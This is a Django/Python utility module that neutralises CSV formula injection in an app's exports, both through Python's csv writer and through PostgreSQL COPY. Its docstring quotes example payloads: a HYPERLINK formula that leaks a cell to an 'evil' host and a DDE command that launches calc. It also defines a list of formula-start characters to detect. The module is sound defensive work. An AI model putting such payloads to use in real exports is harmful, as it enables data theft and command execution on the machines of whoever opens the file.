"""The one path for text into a CSV file, for every CSV the app writes.

A spreadsheet opening a CSV reads a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, in some, a tab or a carriage return) as a formula: a patient named
``=HYPERLINK("http://evil/?"&A1, "Open")`` or a note ``@SUM(1+1)*cmd|' /C calc'!A0``
becomes code on the machine of whoever opens the export. Such a cell is written with
a leading apostrophe (OWASP's advice), which every spreadsheet shows as text; the
rest of the text is unchanged. A cell that is only a number (``-12.50``, ``+1``) is
data, not a formula, and stays as it is, so balances and counts still add up.

Rows go through ``csv_writer`` (Python's csv module; ``csv_response`` for a
download of rows a selector built) or, for rows PostgreSQL writes
itself (``COPY ... TO STDOUT``), through ``csv_copy_sql``, which applies the same rule
in SQL. Nothing else in the app imports ``csv`` to write (a test scans for it).
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):  # bool is an int: also fine
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class _SafeWriter:
    """Python's csv writer with every cell passed through ``csv_cell``.

    A cell holding a carriage return is quoted, as PostgreSQL's COPY quotes it
    (Python's writer quotes only the characters of its own line terminator, so a
    bare CR would end the row early in a reader)."""

    def __init__(self, stream, **options):
        self._stream = stream
        self._terminator = options.get("lineterminator", "\r\n")
        self._writer = csv.writer(stream, **options)
        self._crlf = io.StringIO()
        self._crlf_writer = csv.writer(
            self._crlf, **{**options, "lineterminator": "\r\n"}
        )

    def writerow(self, row):
        cells = [csv_cell(value) for value in row]
        if not any(isinstance(cell, str) and "\r" in cell for cell in cells):
            return self._writer.writerow(cells)
        self._crlf_writer.writerow(cells)
        text = self._crlf.getvalue()[:-2] + self._terminator
        self._crlf.seek(0)
        self._crlf.truncate()
        return self._stream.write(text)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _SafeWriter:
    """``csv.writer(stream, **options)`` whose cells are never formulas."""
    return _SafeWriter(stream, **options)


_SQL_STARTS = ", ".join(
    f"chr({ord(c)})" if c in "\t\r" else f"'{c}'" for c in FORMULA_STARTS
)


def _sql_cell(column: str) -> str:
    return (
        f"CASE WHEN left({column}, 1) IN ({_SQL_STARTS}) "
        f"AND {column} !~ '^[+-]?[0-9]+(\\.[0-9]+)?$' "
        f"THEN '''' || {column} ELSE {column} END"
    )


def csv_copy_sql(query: str, *, columns: int) -> str:
    """The ``COPY ... TO STDOUT (FORMAT csv)`` statement for a query of ``columns``
    text columns, each cell passed through the same rule as ``csv_cell`` (NULL
    stays NULL: an empty, unquoted cell)."""
    names = [f"c{index}" for index in range(columns)]
    cells = ", ".join(_sql_cell(name) for name in names)
    return (
        f"COPY (SELECT {cells} FROM ({query}) AS csv_rows({', '.join(names)})) "
        "TO STDOUT (FORMAT csv)"
    )


def csv_response(*, filename: str, rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """An attachment download of ``rows`` (the header first), every cell through
    ``csv_cell``."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    csv_writer(response).writerows(rows)
    return response
